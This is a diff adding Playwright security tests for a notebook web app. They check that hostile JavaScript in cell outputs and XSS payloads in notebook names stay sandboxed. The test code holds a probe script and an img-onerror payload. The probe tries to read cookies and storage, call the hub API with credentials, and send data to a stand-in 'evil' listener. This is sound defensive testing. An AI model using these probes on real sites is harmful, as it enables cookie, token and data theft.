@@ -1,0 +1,170 @@
+"""What outputs of others, and hostile code in one's own, can reach: nothing. Somebody else's server listens."""
+
+from collections.abc import Callable
+
+import pytest
+from listener import listener
+from payloads import notebook, payloads
+from playwright.sync_api import Browser, BrowserContext, Page, expect
+from servers import Jupyter
+from stage import Stage
+from steps import connect, open_notebook, output, ran, run_cell, sign_in, trust_what_is_asked
+
+EVERYTHING = """from IPython.display import HTML
+HTML('''<pre id="log"></pre><script>
+const lines = [];
+const log = document.getElementById("log");
+const note = (name, what) => { lines.push(name + ": " + what); log.textContent = lines.join("\\\\n"); };
+const attempt = async (name, work) => {
+  try { note(name, "got " + (await work())); } catch (error) { note(name, "refused"); }
+};
+const evil = "EVIL", hub = "HUB", runtime = "RUNTIME", token = "TOKEN";
+const opened = (what) => new Promise((give, refuse) => { what.onopen = () => give("open"); what.onerror = refuse; });
+(async () => {
+  await attempt("cookie", () => document.cookie);
+  await attempt("localStorage", () => localStorage.length);
+  await attempt("indexedDB", () => new Promise((give, refuse) => {
+    const asked = indexedDB.open("x"); asked.onsuccess = () => give("open"); asked.onerror = refuse; }));
+  await attempt("caches", () => caches.keys());
+  await attempt("parent", () => parent.document.title);
+  await attempt("top", () => top.location.href);
+  await attempt("sibling", () => [...Array(parent.length).keys()]
+    .map((index) => parent.frames[index]).find((other) => other !== window).document.title);
+  await attempt("service worker", () => navigator.serviceWorker.register("/frame/v1/frame.html"));
+  await attempt("fetch evil", () => fetch(evil + "/fetch", { mode: "no-cors" }));
+  await attempt("fetch hub", () => fetch(hub + "/api/v1/home", { credentials: "include" }));
+  await attempt("fetch runtime", () => fetch(runtime + "/api/kernels?token=" + token));
+  await attempt("socket evil", () => opened(new WebSocket(evil.replace("http", "ws") + "/socket")));
+  await attempt("socket runtime", () => opened(
+    new WebSocket(runtime.replace("http", "ws") + "/api/events/subscribe?token=" + token)));
+  await attempt("events", () => opened(new EventSource(evil + "/events")));
+  navigator.sendBeacon(evil + "/beacon", "x");
+  new Image().src = evil + "/image";
+  for (const [tag, set] of [["script", { src: evil + "/script" }], ["link", { rel: "stylesheet", href: evil + "/css" }],
+      ["link", { rel: "prefetch", href: evil + "/prefetch" }], ["link", { rel: "preconnect", href: evil }],
+      ["iframe", { src: evil + "/iframe" }], ["iframe", { src: hub + "/api/v1/home" }],
+      ["object", { data: evil + "/object" }], ["video", { src: evil + "/video" }]])
+    document.body.append(Object.assign(document.createElement(tag), set));
+  const form = Object.assign(document.createElement("form"), { action: evil + "/form", method: "post" });
+  document.body.append(form); form.submit();
+  try { top.location = evil + "/top"; } catch { note("navigate top", "refused"); }
+  await attempt("popup", () => { if (open(evil + "/popup") === null) throw new Error("no window"); });
+  try { new BroadcastChannel("runhere-kernel:x").postMessage({ kind: "hello" }); } catch { /* or none at all */ }
+  note("origin", self.origin);
+  note("done", "tried everything");
+  setTimeout(() => { location.href = hub + "/api/v1/home"; }, 500);
+})();
+</script>''')"""
+
+
+def quiet(context: BrowserContext) -> BrowserContext:
+    """A page that is attacked complains in its console, as it should; a dialog would be an attack that came through."""
+    context.on("dialog", lambda dialog: dialog.dismiss())
+    context.on("page", trust_what_is_asked)
+    return context
+
+
+@pytest.fixture
+def victim(stage: Stage, browser: Browser, browser_name: str) -> Callable[[], BrowserContext]:
+    """Like `person`, but the attacks' complaints in the console are no failures."""
+
+    def make() -> BrowserContext:
+        context = quiet(browser.new_context(locale="en-US", viewport={"width": 1280, "height": 1400}))
+        context.set_default_timeout(20_000)
+        sign_in(context.new_page(), stage.next_link())
+        return context
+
+    return make
+
+
+@pytest.mark.timeout(120)
+def test_hostile_code_in_an_output_reaches_nothing(
+    stage: Stage, stock: Jupyter, victim: Callable[[], BrowserContext], browser_name: str
+) -> None:
+    with listener() as evil:
+        source = EVERYTHING
+        for name, value in {
+            "EVIL": evil.origin,
+            "HUB": stage.hub.origin,
+            "RUNTIME": stock.url,
+            "TOKEN": stock.token,
+        }.items():
+            source = source.replace(f'"{name}"', f'"{value}"')
+        name = f"Hostile {browser_name}"
+        other = "from IPython.display import HTML\nHTML('<p>another output</p><script>1</script>')"
+        stage.put(name, source, "1 + 1", other)
+        context = victim()
+        page = stage.open(context, name)
+        connect(page, stock.pasted)
+        answered: list[str] = []
+        # What the policy stops may be announced as a request, but nobody answers it.
+        page.on(
+            "response", lambda got: answered.append(f"{got.status} {got.url}") if got.frame != page.main_frame else None
+        )
+        for position in (3, 1):
+            run_cell(page, position)
+            ran(page, position)
+        expect(output(page, 3).locator("iframe").content_frame.get_by_text("another output")).to_be_visible()
+        log = output(page, 1).locator("iframe").content_frame.locator("#log")
+        expect(log).to_contain_text("tried everything", timeout=20_000)
+        told = log.inner_text()
+        run_cell(page, 2)
+        expect(output(page, 2)).to_contain_text("2")
+        refused = [line for line in told.splitlines() if not line.endswith(": refused")]
+        assert refused == ["origin: null", "done: tried everything"], told
+        assert evil.hits == []
+        assert [line for line in answered if "/api/" in line] == []
+        # The listener hears whoever may speak.
+        page.context.new_page().goto(f"{evil.origin}/twin")
+        assert evil.hits[0] == "/twin"
+        context.close()
+
+
+@pytest.mark.timeout(240)
+def test_no_payload_in_any_field_runs_in_the_page_or_calls_out(
+    stage: Stage, victim: Callable[[], BrowserContext], browser_name: str
+) -> None:
+    with listener() as evil:
+        name = f"Payloads {browser_name} <img src=x onerror=top.__pwned=1>"
+        (stage.hub.folder / f"{name}.ipynb").write_text(notebook(evil.origin), encoding="utf-8")
+        context = victim()
+        page = context.new_page()
+        page.goto(stage.hub.origin)
+        open_notebook(page, name)
+        titles = {page.title()}
+        page.get_by_role("list").first.click(position={"x": 2, "y": 2})
+        walk(page, len(payloads(evil.origin)) * 3)
+        titles.add(page.title())
+        page.get_by_role("button", name="Table of contents").click()
+        expect(page.get_by_role("heading", name="Table of contents")).to_be_visible()
+        assert page.evaluate(
+            "[window.__pwned, typeof config, document.querySelectorAll('script:not([src])').length]"
+        ) == [
+            None,
+            "undefined",
+            0,
+        ]
+        assert evil.hits == []
+        assert len(titles) == 1
+
+        # The payloads are live: in a page of their own, half of them run or call out.
+        evil.page = "".join(f"<div>{text}</div>" for text in payloads(evil.origin) if "refresh" not in text)
+        bare = context.new_page()
+        bare.goto(f"{evil.origin}/page")
+        bare.wait_for_timeout(1_500)
+        reached = {hit.partition("?")[2].strip("/") for hit in evil.hits if "?" in hit}
+        assert len(reached) >= 15, sorted(reached)
+        context.close()
+
+
+def walk(page: Page, cells: int) -> None:
+    """Bring every cell into sight, one after another, as somebody who reads."""
+    seen = 0
+    while seen < cells:
+        page.mouse.move(640, 700)
+        page.mouse.wheel(0, 1_100)
+        page.wait_for_timeout(60)
+        last = page.locator("[role=listitem]").last.get_attribute("aria-posinset")
+        if last is not None and int(last) >= cells:
+            break
+        seen += 1
